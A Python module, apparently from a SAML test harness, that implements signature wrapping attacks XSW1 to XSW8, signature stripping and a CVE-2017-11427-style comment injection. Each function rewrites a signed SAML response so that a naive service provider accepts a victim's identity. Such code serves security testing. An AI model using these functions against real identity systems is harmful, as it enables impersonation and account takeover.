"""XML signature wrapping (XSW1-XSW8, as catalogued by SAML Raider / Somorovsky et al., "On Breaking SAML")
and other hostile rewrites of a genuinely signed response. Each function takes the signed XML and returns the
attack, which keeps the IdP's valid signature somewhere while putting the attacker's claims where a naive
service provider would read them."""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree
from saml_idp import DS, SAML, SAMLP, q

EVIL_ID = "_evil_0001"


def _assertion(root: etree._Element) -> etree._Element:
    return root.find(q(SAML, "Assertion"))


def impersonate(element: etree._Element, victim: str) -> None:
    """Rewrite every NameID and attribute value in ``element`` that names the attacker to name ``victim``."""
    for node in element.iter(q(SAML, "NameID"), q(SAML, "AttributeValue")):
        if node.text and "@" in node.text:
            node.text = victim


def _strip_signatures(element: etree._Element) -> None:
    for signature in element.findall(q(DS, "Signature")):
        element.remove(signature)


def _xml(root: etree._Element) -> bytes:
    return etree.tostring(root)


def xsw1(signed: bytes, victim: str) -> bytes:
    """Evil Response (new ID, no signature) as root; the original signed Response inside its Signature."""
    original = etree.fromstring(signed)
    evil = copy.deepcopy(original)
    evil.set("ID", EVIL_ID)
    _strip_signatures(evil)
    impersonate(evil, victim)
    signature = copy.deepcopy(original.find(q(DS, "Signature")))
    _strip_signatures(original)
    signature.append(original)
    evil.find(q(SAML, "Issuer")).addnext(signature)
    return _xml(evil)


def xsw2(signed: bytes, victim: str) -> bytes:
    """Like XSW1, but the original Response sits before the Signature as a detached sibling."""
    original = etree.fromstring(signed)
    evil = copy.deepcopy(original)
    evil.set("ID", EVIL_ID)
    _strip_signatures(evil)
    impersonate(evil, victim)
    signature = copy.deepcopy(original.find(q(DS, "Signature")))
    _strip_signatures(original)
    evil.find(q(SAML, "Issuer")).addnext(original)
    original.addnext(signature)
    return _xml(evil)


def xsw3(signed: bytes, victim: str) -> bytes:
    """An evil unsigned Assertion (new ID) inserted before the original signed one."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.set("ID", EVIL_ID)
    _strip_signatures(evil)
    impersonate(evil, victim)
    original.addprevious(evil)
    return _xml(root)


def xsw4(signed: bytes, victim: str) -> bytes:
    """The original signed Assertion becomes a child of an evil Assertion."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.set("ID", EVIL_ID)
    _strip_signatures(evil)
    impersonate(evil, victim)
    original.addprevious(evil)
    evil.append(original)
    return _xml(root)


def xsw5(signed: bytes, victim: str) -> bytes:
    """The signed Assertion is altered in place (keeping its Signature); an unaltered unsigned copy is
    appended to the Response so that a signature check by ID would find matching content."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    copy_of_original = copy.deepcopy(original)
    _strip_signatures(copy_of_original)
    original.set("ID", EVIL_ID)
    impersonate(original, victim)
    root.append(copy_of_original)
    return _xml(root)


def xsw6(signed: bytes, victim: str) -> bytes:
    """The altered Assertion keeps the Signature; the original unsigned copy sits inside that Signature."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    copy_of_original = copy.deepcopy(original)
    _strip_signatures(copy_of_original)
    original.set("ID", EVIL_ID)
    impersonate(original, victim)
    signature = original.find(q(DS, "Signature"))
    obj = etree.SubElement(signature, q(DS, "Object"))
    obj.append(copy_of_original)
    return _xml(root)


def xsw7(signed: bytes, victim: str) -> bytes:
    """The original signed Assertion hidden in an Extensions element; an evil Assertion after it."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.set("ID", EVIL_ID)
    _strip_signatures(evil)
    impersonate(evil, victim)
    extensions = etree.Element(q(SAMLP, "Extensions"))
    original.addprevious(extensions)
    extensions.append(original)
    extensions.addnext(evil)
    return _xml(root)


def xsw8(signed: bytes, victim: str) -> bytes:
    """The altered Assertion's Signature carries an Object with the original Assertion minus its Signature."""
    root = etree.fromstring(signed)
    original = _assertion(root)
    copy_of_original = copy.deepcopy(original)
    _strip_signatures(copy_of_original)
    impersonate(original, victim)
    signature = original.find(q(DS, "Signature"))
    obj = etree.SubElement(signature, q(DS, "Object"))
    obj.append(copy_of_original)
    return _xml(root)


RESPONSE_WRAPPING: dict[str, Callable[[bytes, str], bytes]] = {"XSW1": xsw1, "XSW2": xsw2}
ASSERTION_WRAPPING: dict[str, Callable[[bytes, str], bytes]] = {
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}


def strip_assertion_signature(signed: bytes) -> bytes:
    root = etree.fromstring(signed)
    _strip_signatures(_assertion(root))
    return _xml(root)


def strip_response_signature(signed: bytes) -> bytes:
    root = etree.fromstring(signed)
    _strip_signatures(root)
    return _xml(root)


def comment_in_name_id(signed: bytes, keep: str) -> bytes:
    """Insert an XML comment into NameID and email values after ``keep`` (CVE-2017-11427 style): the
    signature still verifies (exclusive c14n drops comments) but a naive text read stops at the comment."""
    root = etree.fromstring(signed)
    for node in root.iter(q(SAML, "NameID"), q(SAML, "AttributeValue")):
        if node.text and node.text.startswith(keep) and node.text != keep:
            rest = node.text[len(keep) :]
            node.text = keep
            comment = etree.Comment("")
            comment.tail = rest
            node.append(comment)
    return _xml(root)
